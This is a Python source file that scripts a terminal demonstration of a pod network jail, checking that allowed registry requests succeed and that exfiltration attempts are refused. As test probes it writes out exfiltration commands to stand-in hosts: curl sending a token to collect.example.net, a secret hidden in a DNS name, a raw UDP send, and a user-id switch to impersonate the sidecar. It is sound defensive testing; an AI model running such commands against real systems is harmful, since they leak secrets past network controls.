"""The steps of the demonstration. Each runs something in the workload, and checks both ends: what the workload saw, and
what reached the outside."""

import shlex
import subprocess

from pod import programs
from pod.network import OTHER4, RESOLVER4, UPSTREAM4
from pod.waiting import NotInTime, wait_until

POLICY = """\
// registry.js: packages may be read, nothing else.
export function onRequest(r) {
  if (r.host !== "registry.example.test") return;            // no opinion: another policy may have one
  if (r.method === "GET" && r.path.startsWith("/pkg/")) return true;
  return { allow: false, deny_message: "only GET /pkg/… is open; ask in #builds for more" };
}
"""
EDITED = POLICY.replace('r.path.startsWith("/pkg/")', '/^\\/(pkg|search)\\//.test(r.path)')
SECRET = "c2VjcmV0LXRva2Vu"


class Steps:
    """The demonstration of one running pod on a terminal."""

    def __init__(self, pod, terminal):
        self._pod, self._terminal = pod, terminal

    def all(self):
        """Every step, in the order a newcomer understands best."""
        self.show_policy()
        self.allowed_request()
        self.denied_path()
        self.denied_host()
        self.dns_exfiltration()
        self.raw_packet()
        self.stolen_identity()
        self.live_edit()
        self.metrics()
        self.one_command()

    def show_policy(self):
        """The one policy in force."""
        self._terminal.say("The pod has one policy, ordinary JavaScript. Whatever no policy allows is denied.")
        self._terminal.output(POLICY)

    def allowed_request(self):
        """An allowed HTTPS GET."""
        self._terminal.heading("An allowed request", "curl is not configured in any way: its connection is redirected to "
                               "the sidecar, which asks the policy and fetches from the real, verified server.")
        before = len(self._pod.outside.requests)
        done = self._workload("curl", "-sS", "https://registry.example.test/pkg/left-pad")
        self._terminal.promise("the workload got the registry's answer", "hello from registry.example.test" in done.stdout,
                               done.stderr)
        seen = [(request.method, request.path) for request in self._pod.outside.requests[before:]]
        self._terminal.promise("the registry saw exactly this request", seen == [("GET", "/pkg/left-pad")], str(seen))

    def denied_path(self):
        """A path the policy denies."""
        self._terminal.heading("A denied path", "The same server, a path the policy does not open. The refusal says why, "
                               "in the policy's own words.")
        self._refused("curl", "-sS", "-i", "https://registry.example.test/admin/tokens", saying="only GET /pkg/")

    def denied_host(self):
        """A host no policy knows."""
        self._terminal.heading("A denied host", "No policy mentions this host, so it is not even resolved.")
        self._refused("curl", "-sS", "-i", f"https://collect.example.net/?stolen={SECRET}", saying="podjail")

    def dns_exfiltration(self):
        """Data in a host name."""
        self._terminal.heading("Data hidden in a DNS question", "Names are a classic way out. The sidecar answers every "
                               f"question itself; the resolver ({RESOLVER4}) never hears of it.")
        questions = len(self._pod.outside.dns.questions)
        frames = self._pod.outside.frames.mark()
        done = self._workload("getent", "ahostsv4", f"{SECRET}.exfil.example.net")
        self._terminal.promise("the answer is an address of the pod's own pool", done.stdout.startswith("198.1"), done.stderr)
        asked = self._pod.outside.dns.questions[questions:]
        self._terminal.promise("the resolver outside was asked nothing", not asked, str(asked))
        self._nothing_left(frames)

    def raw_packet(self):
        """A UDP packet to anywhere."""
        self._terminal.heading("A UDP packet", "No proxy setting is involved: what is not redirected TCP or DNS is "
                               "refused by the kernel.")
        frames = self._pod.outside.frames.mark()
        done = self._workload("python3", "-c", "import socket as s; "
                              f's.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"{SECRET}", ("{OTHER4}", 9999))')
        self._terminal.promise("the sender is told at once", "PermissionError" in done.stderr, done.stderr)
        self._nothing_left(frames)

    def stolen_identity(self):
        """Becoming the sidecar's user."""
        self._terminal.heading("A process that became the sidecar's user", "Root in a container may become any user. "
                               "Other jails exempt a user id; this one knows the sidecar by its cgroup.")
        frames = self._pod.outside.frames.mark()
        done = self._workload("setpriv", "--reuid=15001", "--regid=15001", "--clear-groups",
                              "sh", "-c", f"id -u; curl -sS -i https://collect.example.net/?stolen={SECRET}")
        self._terminal.promise("it is user 15001, and refused all the same",
                               done.stdout.startswith("15001") and "403" in done.stdout and "podjail" in done.stdout, done.stderr)
        self._nothing_left(frames)

    def live_edit(self):
        """An edit of the policy takes effect."""
        self._terminal.heading("A policy edit, live", "The policy now also opens /search/; Kubernetes would swap the "
                               "ConfigMap the same way. Nothing restarts.")
        command = ("curl", "-sS", "https://registry.example.test/search/?q=jail")
        self._workload(*command)
        self._terminal.say("(the edit)")
        self._pod.policies.write({"registry.js": EDITED})
        try:
            wait_until(lambda: "hello" in self._pod.run("workload", command).stdout, "the new policy in force", 10)
        except NotInTime as late:
            self._terminal.promise("the new policy is in force", False, str(late))
            return
        done = self._workload(*command)
        self._terminal.promise("the same request is now answered", "hello from registry" in done.stdout, done.stdout)

    def metrics(self):
        """The counters of all of it."""
        self._terminal.heading("The metrics that count all of it", "Read from outside, as Prometheus would.")
        self._terminal.command("outside", "curl http://192.0.2.2:15020/metrics")
        _, text = self._pod.admin("/metrics")
        told = [line for line in text.splitlines()
                if line.startswith(("podjail_requests_total", "podjail_dns_queries_total", "podjail_policy_reloads_total"))]
        self._terminal.output("\n".join(told))
        for what in ('verdict="allow"', 'reason="policy_denied"', 'reason="not_allowed"'):
            self._terminal.promise(f"requests with {what} are counted",
                                   any("requests_total" in line and what in line for line in told))
        self._terminal.promise("DNS questions and the reload are counted",
                               all(any(word in line for line in told) for word in ("dns_queries", 'result="ok"')))

    def one_command(self):
        """podjail run."""
        self._terminal.heading("The same jail around one command", "No container and no installation, and root is not needed "
                               "either: the command's network has no wire at all. It asks the same server.")
        outside = self._pod.outside
        where = ["--resolver", RESOLVER4, "--root", str(outside.roots), "--grant", f"{UPSTREAM4}:443"]
        what = ["--js", 'r.host === "registry.example.test"', "--", "sh", "-c",
                f"curl -sS https://registry.example.test/pkg/left-pad; curl -sS https://collect.example.net/?stolen={SECRET}"]
        self._terminal.command("laptop", shlex.join(["podjail", "run", *what]))
        before = len(outside.requests)
        argv = [programs.find().front, "run", *where, *what]
        done = self._pod.network.outside.run(lambda: subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False))
        self._terminal.output(done.stdout + done.stderr)
        self._terminal.promise("the command got the registry's answer", "hello from registry.example.test" in done.stdout, done.stderr)
        self._terminal.promise("and a reason for the other", "reason: not_allowed" in done.stdout, done.stdout)
        seen = [(request.method, request.path) for request in outside.requests[before:]]
        self._terminal.promise("the registry saw exactly this request", seen == [("GET", "/pkg/left-pad")], str(seen))

    def _refused(self, *argv, saying):
        frames, before = self._pod.outside.frames.mark(), len(self._pod.outside.requests)
        done = self._workload(*argv)
        self._terminal.promise("the workload got 403 and a reason", " 403 " in done.stdout and saying in done.stdout,
                               done.stdout + done.stderr)
        self._terminal.promise("no request reached the outside", len(self._pod.outside.requests) == before)
        self._nothing_left(frames)

    def _nothing_left(self, position):
        frames = self._pod.outside.frames.since(position)
        self._terminal.promise("nothing left the pod: no frame was seen outside", not frames,
                               "\n".join(map(str, frames)))

    def _workload(self, *argv):
        self._terminal.command("workload", shlex.join(argv))
        done = self._pod.run("workload", argv)
        self._terminal.output(done.stdout + done.stderr)
        return done
